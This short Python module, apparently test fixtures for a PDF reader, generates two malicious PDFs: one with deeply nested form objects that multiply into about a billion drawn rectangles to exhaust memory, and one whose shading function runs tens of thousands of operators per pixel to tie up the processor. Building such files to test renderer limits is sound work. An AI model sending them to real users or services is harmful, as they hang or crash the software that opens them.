"""PDFs that are made to harm whoever opens them."""


def pdf_of(objects: list[bytes]) -> bytes:
    """A PDF of these objects, the first of which is its catalogue."""
    content, offsets = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, start=1):
        offsets.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    trailer = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(content))
    return content + b"xref\n0 %d\n0000000000 65535 f \n%s%s" % (len(objects) + 1, table, trailer)


def stream(facts: bytes, content: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (facts, len(content), content)


def laughs(depth: int = 9, fan: int = 10) -> bytes:
    """Forms in forms: ``fan ** depth`` rectangles, each of which takes memory."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
        b"/Resources << /XObject << /X 5 0 R >> >> >>",
        stream(b"", b"/X Do"),
    ]
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 200 200]"
    for level in range(6, 5 + depth):
        objects.append(stream(form + b" /Resources << /XObject << /X %d 0 R >> >>" % level, b"/X Do\n" * fan))
    return pdf_of([*objects, stream(form, b"0 0 10 10 re f\n" * fan)])


def endless(operators: int = 50_000) -> bytes:
    """A shading whose colour takes so many ``operators`` for each pixel: minutes of computing, in little memory."""
    function = b"/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]"
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
            b"/Resources << /Shading << /S 5 0 R >> >> >>",
            stream(b"", b"200 0 0 200 0 0 cm /S sh"),
            b"<< /ShadingType 1 /ColorSpace /DeviceGray /Domain [0 1 0 1] /Function 6 0 R >>",
            stream(function, b"{ mul %s }" % (b"neg " * operators)),
        ]
    )
